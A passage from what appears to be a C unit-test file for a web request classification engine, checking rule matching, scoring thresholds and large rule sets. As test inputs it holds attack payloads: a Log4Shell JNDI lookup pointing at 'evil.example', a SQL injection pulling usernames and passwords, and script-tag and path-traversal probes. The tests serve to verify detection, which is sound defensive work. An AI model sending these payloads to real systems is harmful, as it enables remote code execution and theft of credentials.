    char *ua, *ref, *cookie;
    apr_size_t n = 0;

    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    ua = apr_palloc(p, 8300);
    while (n < 8000) {
        memcpy(ua + n, tokens, sizeof(tokens) - 1);
        n += sizeof(tokens) - 1;
        memset(ua + n, 'a', 40);
        n += 40;
        ua[n++] = ' ';
    }
    ua[n] = '\0';
    ref = apr_palloc(p, 7100);
    memset(ref, 'x', 7000);
    strcpy(ref + 7000, "${jndi:ldap://evil.example/a}");
    cookie = apr_palloc(p, 7100);
    strcpy(cookie, "id=-1 UNION SELECT username,password FROM users--;p=");
    n = strlen(cookie);
    memset(cookie + n, 'b', 7000);
    cookie[n + 7000] = '\0';

    h[0].name = "User-Agent";
    h[0].value = "Mozilla/5.0 (X11; Linux x86_64)";
    h[1].name = "Referer";
    h[1].value = ref;
    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
    CHECK(res.categories & (1u << LW_CAT_RCE));
    h[0].value = ua;
    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
    CHECK(res.categories & (1u << LW_CAT_RCE));
    h[1].name = "Cookie";
    h[1].value = cookie;
    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
    CHECK(res.categories & (1u << LW_CAT_SQLI));
}

/* Bitsets over many words: more rules than fit the stack bitsets. */
static void test_many_rules(apr_pool_t *p)
{
    enum { N = 2100 };
    char *text;
    apr_size_t cap = (apr_size_t)N * 160, used = 0;
    lw_engine_t *e;
    lw_limits_t lim;
    lw_result_t res;
    int i;
    text = apr_palloc(p, cap);
    for (i = 0; i < N; i++)
        used += (apr_size_t)apr_snprintf(text + used, cap - used,
                    "rule %d\n category probe\n severity low\n msg k%d\n"
                    " target args\n literal kw%d.\n pattern kw%d\\.\n"
                    " match /?a=kw%d.\n nomatch /?a=kw%d\n", 1000 + i, i,
                    i, i, i, i);
    e = engine(p, "manyrules.rules", text);
    CHECK(e != NULL);
    if (!e)
        return;
    CHECK(lw_engine_rule_count(e) == N);
    lw_limits_default(&lim);
    CHECK(classify(e, "GET", "/?a=kw5.&b=kw70.&c=kw2099.", NULL, 0, &lim, p,
                   &res) == 1);
    CHECK(res.nhits == 3 && res.score == 6);
    CHECK(find_hit(&res, 1005) && find_hit(&res, 1070) && find_hit(&res, 3099));
    CHECK(lw_engine_rule_hits(e, 2099) == 1 && lw_engine_rule_hits(e, 70) == 1);
    CHECK(lw_engine_rule_hits(e, 71) == 0);
    CHECK(lw_engine_rule_index(e, 3099) == 2099);
}

/* The threshold is inclusive: a score equal to it flags, one below does
 * not, in the classifier and after exclusions alike. */
static void test_threshold(apr_pool_t *p)
{
    lw_engine_t *e = engine(p, "threshold.rules", score_rules);
    lw_limits_t lim;
    lw_result_t res;
    apr_uint32_t ids[1] = { 34 };
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    /* one medium rule: score 3, the default threshold */
    CHECK(lim.min_score == 3);
    CHECK(classify(e, "GET", "/?a=<script>", NULL, 0, &lim, p, &res) == 1);
    CHECK(res.score == 3);
    lim.min_score = 4;
    CHECK(classify(e, "GET", "/?a=<script>", NULL, 0, &lim, p, &res) == 0);
    /* two low rules: score 4 */
    CHECK(classify(e, "GET", "/?a='&b=../x", NULL, 0, &lim, p, &res) == 1);
    CHECK(res.score == 4);
    lim.min_score = 5;
    CHECK(classify(e, "GET", "/?a='&b=../x", NULL, 0, &lim, p, &res) == 0);
    /* after excluding the medium rule, 2 + 2 is left: flagged at 4 only */
    lim.min_score = LW_DEFAULT_MIN_SCORE;
    CHECK(classify(e, "GET", "/?a='&b=../&c=<script>", NULL, 0, &lim, p, &res) == 1);
    CHECK(res.score == 7);
    CHECK(lw_result_exclude(&res, ids, 1, 0, 4) == 1 && res.score == 4);
    CHECK(classify(e, "GET", "/?a='&b=../&c=<script>", NULL, 0, &lim, p, &res) == 1);
    CHECK(lw_result_exclude(&res, ids, 1, 0, 5) == 0 && res.score == 4);
}

int main(void)
{
    LW_TEST_BEGIN(p);
    test_fields(p);
    test_forms(p);
    test_score(p);
    test_threshold(p);
    test_limits(p);
    test_many_hits(p);
    test_budget(p);
    test_padding(p);
    test_padding_default_set(p);
    test_long_benign_cookie(p);
    test_long_benign_urls(p);
    test_many_rules(p);
    LW_TEST_END();
}
